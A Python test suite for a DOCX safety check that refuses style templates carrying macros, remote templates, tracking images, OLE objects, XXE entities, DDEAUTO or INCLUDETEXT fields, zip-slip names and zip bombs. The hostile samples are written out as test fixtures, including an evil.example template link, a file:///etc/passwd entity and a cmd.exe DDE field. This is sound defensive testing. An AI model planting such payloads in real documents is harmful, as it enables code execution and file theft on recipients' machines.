"""Threat: a DOCX style source that carries macros, remote content, a DTD or a zip bomb
into every release sent out under the institution's name."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from communique.writers.docx_guard import UnsafeDocx, check_style_source

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def tamper(source: Path, target: Path, add: dict[str, bytes] | None = None,
           change: dict[str, Callable[[bytes], bytes]] | None = None) -> Path:
    """A copy of the DOCX `source` with parts added or changed."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w",
                                                         zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if change and info.filename in change:
                data = change[info.filename](data)
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return target


def add_type(extension: str, kind: str) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"<Default ", f'<Default Extension="{extension}" '
                                   f'ContentType="{kind}"/><Default '.encode(), 1)


def add_relationship(kind: str, target: str, external: bool = True) -> Callable:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/>'.encode()
    return lambda xml: xml.replace(b"</Relationships>", rel + b"</Relationships>")


def in_header(field: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</w:hdr>", b"<w:p>" + field + b"</w:p></w:hdr>")


@pytest.fixture
def styles(hostile) -> Path:
    return hostile.pack / "styles.docx"


def refused(path: Path, roots=()) -> str:
    with pytest.raises(UnsafeDocx) as refusal:
        check_style_source(path, roots)
    return refusal.value.reason


def test_the_shipped_style_sources_pass(hostile):
    for path in (hostile.pack / "styles.docx", hostile.institution / "styles.docx"):
        if path.exists():
            assert check_style_source(path, (path.parent,)).startswith(b"PK")


CASES = {
    "macro project": (
        {"add": {"word/vbaProject.bin": b"\x00" * 64},
         "change": {"[Content_Types].xml": add_type("bin",
                                                    "application/vnd.ms-office.vbaProject")}},
        "it contains macros (vbaProject.bin): 'word/vbaProject.bin'."),
    "docm content type": (
        {"change": {"[Content_Types].xml": lambda x: x.replace(
            b"officedocument.wordprocessingml.document.main+xml",
            b"ms-word.document.macroEnabled.main+xml")}},
        "it is macro-enabled (a .docm or .dotm)"),
    "remote attached template": (
        {"add": {"word/_rels/settings.xml.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{PKG_RELS}"><Relationship Id="r1" '
            f'Type="{RELS}/attachedTemplate" Target="https://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>').encode()}},
        "it is attached to another template (word/_rels/settings.xml.rels: attachedTemplate "
        "→ https://evil.example/t.dotm)."),
    "remote image": (
        {"change": {"word/_rels/document.xml.rels": add_relationship(
            f"{RELS}/image", "http://tracker.example/pixel.png")}},
        "it refers to an outside resource that Word would load (word/_rels/document.xml.rels: "
        "image → http://tracker.example/pixel.png)."),
    "UNC hyperlink": (
        {"change": {"word/_rels/document.xml.rels": add_relationship(
            f"{RELS}/hyperlink", "file://server/share/x")}},
        "outside resource that Word would load (word/_rels/document.xml.rels: hyperlink"),
    "OLE object": (
        {"change": {"word/_rels/document.xml.rels": add_relationship(
            f"{RELS}/oleObject", "embeddings/x.bin", external=False)}},
        "it contains an OLE object"),
    "altChunk": (
        {"change": {"word/_rels/document.xml.rels": add_relationship(
            f"{RELS}/aFChunk", "chunk.mht", external=False)}},
        "it imports another file (altChunk)"),
    "doctype": (
        {"change": {"word/styles.xml": lambda x: x.replace(
            b"?>", b'?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)}},
        "the part 'word/styles.xml' declares a DTD or entities"),
    "entity in utf-16": (
        {"add": {"customXml/item2.xml": '<?xml version="1.0" encoding="UTF-16"?>'
                 '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'.encode("utf-16")}},
        "the part 'customXml/item2.xml' declares a DTD or entities"),
    "INCLUDETEXT field": (
        {"change": {"word/header1.xml": in_header(
            b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
            b'</w:instrText></w:r><w:r><w:instrText>TEXT "C:\\\\secret.docx" </w:instrText>'
            b'</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')}},
        "the field INCLUDETEXT in 'word/header1.xml' would make Word read or run something"),
    "DDEAUTO field": (
        {"change": {"word/header1.xml": in_header(
            b'<w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            b'"/k calc"\'/>')}},
        "the field DDEAUTO in 'word/header1.xml'"),
    "unexpected content type": (
        {"add": {"word/tool.exe": b"MZ"},
         "change": {"[Content_Types].xml": add_type("exe", "application/x-msdownload")}},
        "it holds content of an unexpected type (application/x-msdownload for *.exe)."),
    "undeclared part": (
        {"add": {"word/payload.exe": b"MZ"}},
        "the part 'word/payload.exe' has no declared content type."),
    "zip slip name": (
        {"add": {"../../evil.xml": b"<x/>"}},
        "it has a part with an unsafe name ('../../evil.xml')."),
    "too many parts": (
        {"add": {f"customXml/i{i}.xml": b"<x/>" for i in range(1000)}},
        "parts, more than the 1000 allowed."),
}


@pytest.mark.parametrize("case", CASES)
def test_hostile_style_sources_are_refused(styles, tmp_path, case):
    edits, reason = CASES[case]
    path = tamper(styles, tmp_path / "styles.docx", **edits)
    assert reason in refused(path)


def test_a_safe_external_hyperlink_is_accepted(styles, tmp_path):
    path = tamper(styles, tmp_path / "styles.docx", change={
        "word/_rels/document.xml.rels": add_relationship(f"{RELS}/hyperlink",
                                                         "https://www.example.ma/")})
    check_style_source(path)


def test_a_zip_bomb_is_refused_before_inflating(styles, tmp_path):
    path = tmp_path / "styles.docx"
    tamper(styles, path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("customXml/bomb.xml", "w", force_zip64=True) as entry:
            chunk = b"\x00" * (1 << 20)
            for _ in range(101):
                entry.write(chunk)
    assert path.stat().st_size < 1_000_000
    assert "more than the 104857600 allowed (a zip bomb?)" in refused(path)


def test_an_oversized_file_a_device_and_a_link_out_are_refused(tmp_path):
    big = tmp_path / "big.docx"
    with open(big, "wb") as handle:
        handle.truncate(21 * 1024 * 1024)
    assert "more than the 20971520 allowed" in refused(big)
    (tmp_path / "zero.docx").symlink_to("/dev/zero")
    assert "it is a link to a file outside the template pack" in refused(
        tmp_path / "zero.docx", (tmp_path,))
    assert "it is not a regular file" in refused(tmp_path / "zero.docx")
    (tmp_path / "text.docx").write_text("hello")
    assert "it is not a DOCX file (not a zip archive)" in refused(tmp_path / "text.docx")


def test_check_reports_and_build_refuses_an_unsafe_style_source(hostile, styles, tmp_path):
    tampered = tamper(styles, tmp_path / "x.docx", change={
        "word/_rels/document.xml.rels": add_relationship(f"{RELS}/image",
                                                         "http://tracker.example/p.png")})
    for folder in (hostile.pack, hostile.institution):
        if (folder / "styles.docx").exists():
            (folder / "styles.docx").write_bytes(tampered.read_bytes())
    code, out = hostile.check(select="T010")
    found = json.loads(out)["diagnostics"]
    assert code == 1 and found[0]["code"] == "T010" and found[0]["name"] == "unsafe-style-source"
    assert "http://tracker.example/p.png" in found[0]["message"]
    err = io.StringIO()
    from communique import api

    assert api.build(hostile.root, [], out=io.StringIO(), err=err) == 1
    assert "T010" in err.getvalue() and not (hostile.root / "build").exists()


def test_the_docx_writer_refuses_an_unsafe_style_source(hostile, styles, tmp_path):
    import dataclasses

    from communique.errors import RenderError
    from communique.packs.manifest import load_institution, load_pack
    from communique.read.release import read_release
    from communique.writers.docx import render_docx

    tamper(styles, styles.with_name("macro.docx"), add={"word/vbaProject.bin": b"x"})
    pack = dataclasses.replace(load_pack(hostile.root, "communique"), docx_styles="macro.docx")
    release = read_release(hostile.release_file, hostile.root).release
    with pytest.raises(RenderError, match=r"macro\.docx: the DOCX style source is refused: "
                                          r"it contains macros \(vbaProject\.bin\)"):
        render_docx(release, pack, load_institution(hostile.root, "dgsn"))


def test_a_refused_style_source_is_never_inflated_by_the_style_check(hostile, styles):
    # word/styles.xml inflating past the limit: T010 refuses it, and T004 must not read
    # it (it did: with 1 GiB, seconds and gigabytes of memory, or exit 3).
    with zipfile.ZipFile(styles) as archive:
        parts = {i.filename: archive.read(i.filename) for i in archive.infolist()}
    with zipfile.ZipFile(styles, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if name != "word/styles.xml":
                archive.writestr(name, data)
        with archive.open("word/styles.xml", "w", force_zip64=True) as entry:
            chunk = b"\x00" * (1 << 20)
            for _ in range(128):
                entry.write(chunk)
    assert styles.stat().st_size < 2_000_000
    (hostile.institution / "styles.docx").write_bytes(styles.read_bytes())  # the one used
    code, out = hostile.check(select="T")
    found = {d["code"] for d in json.loads(out)["diagnostics"]}
    assert code == 1 and "T010" in found and "T004" not in found


def test_a_part_is_read_only_up_to_its_limit(styles, tmp_path):
    from communique.writers.docx_guard import read_part

    path = tamper(styles, tmp_path / "x.docx", add={"customXml/item9.xml": b"x" * 5000})
    with zipfile.ZipFile(path) as archive:
        assert read_part(archive, "customXml/item9.xml", 5000) == b"x" * 5000
        with pytest.raises(UnsafeDocx, match="inflates to more than the 4999 bytes"):
            read_part(archive, "customXml/item9.xml", 4999)

